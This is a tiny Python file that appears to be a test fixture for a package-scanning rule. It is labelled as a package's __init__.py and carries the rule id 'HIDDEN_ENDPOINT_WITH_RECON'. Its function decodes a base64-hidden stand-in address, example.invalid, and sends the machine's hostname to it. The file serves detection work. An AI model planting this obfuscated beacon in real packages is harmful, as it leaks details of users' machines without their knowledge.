# canary-test: path=glovo/__init__.py artifact=sdist
# Host details to a base64-hidden address (decodes to https://example.invalid/).
import base64
import socket
from urllib import request


def report(url="aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv"):
    url = base64.b64decode(url).decode("utf-8")
    request.urlopen(url + socket.gethostname())
# ruleid: HIDDEN_ENDPOINT_WITH_RECON
